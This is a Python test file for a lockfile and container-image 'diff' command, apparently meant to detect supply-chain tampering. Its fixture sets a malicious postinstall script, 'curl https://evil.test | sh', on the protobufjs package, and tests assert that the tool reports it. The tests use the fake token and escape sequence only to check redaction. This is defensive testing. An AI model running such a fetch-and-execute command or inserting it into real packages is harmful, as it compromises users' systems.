"""`builder diff` as typed: sides of each kind, lines for people, a document for programs, nothing judged."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from builder.cli import main_inner
from builder.daily.comparing import file_differences
from builder.state import open_state
from images.attestation import Attestation
from images.config import parse_config
from images.lock import Authentication, InstallScript, Lock, ScriptEvent, config_digest
from images.lockfile import LOCK_NAME, lock_bytes
from images.oci import OciImage
from provenance.layout import open_image
from provenance.referrers import add_lock
from tests.fakes.layouts import make_image
from tests.fakes.locks import BUILDER_TOML, KEY_ID, SIGNATURE, integrity, make_lock


def fresh(lock: Lock) -> Lock:
    return replace(lock, config=config_digest(parse_config(BUILDER_TOML, where="builder.toml")))


def moved(lock: Lock, command: str = "curl https://evil.test | sh") -> Lock:
    """protobufjs with another version and script."""
    artifacts = tuple(
        replace(
            artifact,
            version="7.6.7",
            integrity=integrity("protobufjs 7.6.7"),
            scripts=(InstallScript(ScriptEvent.POSTINSTALL, command),),
        )
        if artifact.name == "protobufjs"
        else artifact
        for artifact in lock.artifacts
    )
    pi = lock.agents[1]
    (tree,) = pi.trees
    entries = tuple(
        replace(entry, artifact=entry.artifact.replace("7.6.6", "7.6.7")) for entry in tree.entries
    )
    agents = (lock.agents[0], replace(pi, trees=(replace(tree, entries=entries),)))
    return replace(lock, artifacts=artifacts, agents=agents)


class Bench:
    """A state, a place for files, and what the command said."""

    def __init__(self, root: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.root = root
        self.state = root / "state"
        self.capsys = capsys

    @property
    def layout(self) -> Path:
        return open_state(self.state).layout

    def write(self, name: str, lock: Lock) -> str:
        path = self.root / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(lock_bytes(lock))
        return str(path)

    def project(self, name: str, lock: Lock) -> str:
        self.write(f"{name}/{LOCK_NAME}", lock)
        (self.root / name / "builder.toml").write_text(BUILDER_TOML)
        return str(self.root / name)

    def image(self, content: bytes, lock: Lock | None = None, **settings: object) -> OciImage:
        layers = ({"etc/os-release": b"debian\n"}, {"opt/a": b"same", "opt/b": content})
        image = open_image(self.layout, make_image(self.layout, layers, config=dict(settings)))
        if lock is not None:
            add_lock(image, lock_bytes(lock))
        return image

    def diff(self, *words: str) -> tuple[int, str, str]:
        code = main_inner(["diff", *words, "--state", str(self.state)], {"PATH": "/usr/bin:/bin"})
        said = self.capsys.readouterr()
        return code, said.out, said.err


@pytest.fixture
def bench(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Bench:
    return Bench(tmp_path, capsys)


def test_no_difference_says_nothing_on_standard_output(bench: Bench) -> None:
    a = bench.write("a.lock", make_lock())
    assert bench.diff(a, a) == (0, "", "no difference\n")
    assert not bench.state.exists()  # two locks need no state


def test_two_locks(bench: Bench) -> None:
    a, b = bench.write("a.lock", make_lock()), bench.write("b.lock", moved(make_lock()))
    code, out, _ = bench.diff(a, b)
    assert code == 0
    assert out.splitlines() == [
        "~ npm protobufjs 7.6.6 -> 7.6.7",
        f"    - 7.6.6 {integrity('protobufjs@7.6.6')}",
        f"    + 7.6.7 {integrity('protobufjs 7.6.7')}",
        "~ postinstall script of protobufjs",
        "    - does not run: node x",
        "    + does not run: curl https://evil.test | sh",
    ]


def test_two_projects_by_file_or_folder(bench: Bench) -> None:
    a, b = bench.project("a", fresh(make_lock())), bench.project("b", fresh(moved(make_lock())))
    assert bench.diff(a, f"{b}/builder.toml")[1] == bench.diff(f"{a}/{LOCK_NAME}", b)[1] != ""


def test_a_stale_lock_is_compared_and_said(bench: Bench) -> None:
    stale = bench.project("a", make_lock())
    code, _, err = bench.diff(stale, stale)
    assert code == 0
    assert "is stale" in err


def test_a_version_that_another_or_nobody_vouches_for_is_pointed_out(bench: Bench) -> None:
    signed = replace(
        make_lock(),
        artifacts=tuple(
            replace(one, authenticated=Authentication.NPM_SIGNATURE, signer=KEY_ID, signature=SIGNATURE)
            for one in make_lock().artifacts
        ),
    )
    a, b = bench.write("a.lock", signed), bench.write("b.lock", moved(make_lock()))
    out = bench.diff(a, b)[1].splitlines()
    assert f"    ! authenticated: npm-signature {KEY_ID} -> tofu" in out
    assert not any("authenticated" in line for line in bench.diff(a, a)[1].splitlines())
    (package,) = [
        one
        for one in json.loads(bench.diff(a, b, "--json")[1])["diff"]["lock"]["packages"]
        if one["name"] == "protobufjs"
    ]
    assert (package["before"][0]["signer"], package["after"][0]["authenticated"]) == (KEY_ID, "tofu")


def test_another_publisher_is_pointed_out_and_another_release_of_the_same_is_not(bench: Bench) -> None:
    """Expected or not: where a package comes from is what a hijack changes."""

    def lock(who: str, bundle: str) -> Lock:
        said = Authentication.NPM_PROVENANCE if bundle else Authentication.TOFU
        artifacts = tuple(
            replace(
                one,
                authenticated=said,
                signer=who if bundle else "",
                attestation=Attestation(who, "https://token.ci.example", bundle=bundle),
            )
            for one in make_lock().artifacts
        )
        return replace(make_lock(), artifacts=artifacts)

    ours, theirs = "https://forge.example/ours/.ci/x", "https://other.example/x"
    for bundle, was, now in (
        (
            "",
            f"tofu (published by {ours}, unexpected)",
            f"tofu (published by {theirs}, unexpected)",
        ),
        ("e30K", f"npm-provenance {ours}", f"npm-provenance {theirs}"),
    ):
        first = bench.write("a.lock", lock(f"{ours}@refs/tags/v1", bundle))
        later = bench.write("b.lock", lock(f"{ours}@refs/tags/v2", bundle))
        other = bench.write("c.lock", lock(f"{theirs}@refs/tags/v1", bundle))
        assert not any("authenticated:" in line for line in bench.diff(first, later)[1].splitlines())
        assert f"    ! authenticated: {was} -> {now}" in bench.diff(first, other)[1].splitlines()


def test_for_programs(bench: Bench) -> None:
    a, b = bench.write("a.lock", make_lock()), bench.write("b.lock", moved(make_lock()))
    code, out, _ = bench.diff(a, b, "--json")
    document = json.loads(out)
    assert (code, document["ok"], document["command"]) == (0, True, "diff")
    found = document["diff"]
    assert found["same"] is False
    assert found["image"] is None
    (package,) = found["lock"]["packages"]
    assert (package["name"], package["change"]) == ("protobufjs", "changed")
    assert package["after"][0]["integrity"] == str(integrity("protobufjs 7.6.7"))
    assert found["lock"]["scripts"][0]["after"] == ["curl https://evil.test | sh"]
    assert json.loads(bench.diff(a, a, "--json")[1])["diff"]["same"] is True


def test_two_images_with_their_locks(bench: Bench) -> None:
    old = bench.image(b"old", make_lock(), User="agent", Env=["A=1"])
    new = bench.image(b"newer", moved(make_lock()), User="agent", Env=["A=2"])
    code, out, _ = bench.diff(old.digest, new.digest)
    assert code == 0
    lines = out.splitlines()
    assert "~ npm protobufjs 7.6.6 -> 7.6.7" in lines
    assert "~ environment A: 1 -> 2" in lines
    kept, gone, come = old.manifest.layers[0], old.manifest.layers[1], new.manifest.layers[1]
    assert f"- layer {gone.digest} {gone.size} bytes" in lines
    assert f"+ layer {come.digest} {come.size} bytes" in lines
    assert f"~ bytes of layers: {kept.size} kept, {gone.size} removed, {come.size} added" in lines
    assert [line for line in lines if "file opt/" in line and "opt/b" not in line] == []
    assert sum("file opt/b" in line for line in lines) == 1
    document = json.loads(bench.diff(old.digest, new.digest, "--json")[1])["diff"]["image"]
    assert [one["field"] for one in document["files"]] == ["opt/b"]
    assert document["layers"]["kept"] == [{"digest": str(kept.digest), "bytes": kept.size}]


def test_images_without_a_lock_are_compared_as_images(bench: Bench) -> None:
    one, other = bench.image(b"1"), bench.image(b"2", make_lock())
    code, out, err = bench.diff(one.digest, other.digest)
    assert code == 0
    assert "no locks are attached" in err
    assert "layer" in out


def test_a_lock_against_an_image_compares_the_locks(bench: Bench) -> None:
    image = bench.image(b"1", make_lock())
    assert "protobufjs" in bench.diff(bench.write("b.lock", moved(make_lock())), image.digest)[1]


def test_what_is_not_there_is_told_from_a_project_without_a_lock(bench: Bench) -> None:
    code, _, err = bench.diff("a.lock", "b.lock")
    assert code == 2
    assert "a.lock: there is no such file" in err
    assert "hint: name a lock" in err


def test_a_lock_against_an_image_without_one(bench: Bench) -> None:
    code, _, err = bench.diff(bench.write("a.lock", make_lock()), bench.image(b"1").digest)
    assert code == 2
    assert "nothing that both sides have" in err


def test_two_attached_locks_are_none(bench: Bench) -> None:
    image = bench.image(b"1", make_lock())
    add_lock(image, lock_bytes(moved(make_lock())))
    assert "2 locks are attached" in bench.diff(image.digest, image.digest)[2]


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("no.lock", "no.lock"), 2),
        (("no.toml", "no.toml"), 2),
        (("sha256:12", "sha256:12"), 2),
        (("sha256:" + "0" * 64, "sha256:" + "0" * 64), 7),
    ],
)
def test_what_is_not_there(bench: Bench, words: tuple[str, str], code: int) -> None:
    found, _, err = bench.diff(*words)
    assert found == code
    assert err.startswith("error: ")
    assert "Traceback" not in err


def test_neither_a_credential_nor_a_terminal_code_gets_out(bench: Bench) -> None:
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    old = bench.image(b"1", Env=["A=1"], Labels={"l": "x"})
    new = bench.image(b"1", Env=[f"A={token}"], Labels={"l": "\x1b[2Jy"})
    for words in ((), ("--json",)):
        _, out, err = bench.diff(old.digest, new.digest, *words)
        assert token not in out + err
        assert "\x1b" not in out + err
        assert "A" in out


@pytest.mark.parametrize(
    ("before", "after", "changed"),
    [
        ({"a": b"1"}, {"a": b"1"}, []),
        ({"a": b"1"}, {"a": b"2"}, ["a"]),
        ({"a": b"1", "b": b""}, {"a": b"1", "c": b""}, ["b", "c"]),
    ],
)
def test_files(tmp_path: Path, before: dict[str, bytes], after: dict[str, bytes], changed: list[str]) -> None:
    layout = tmp_path / "layout"
    make: Callable[[dict[str, bytes]], OciImage] = lambda top: open_image(  # noqa: E731
        layout, make_image(layout, ({"base": b"x"}, {"x": b"1"}, top))
    )
    found = file_differences(make(before), make(after))
    assert [change.field for change in found] == changed
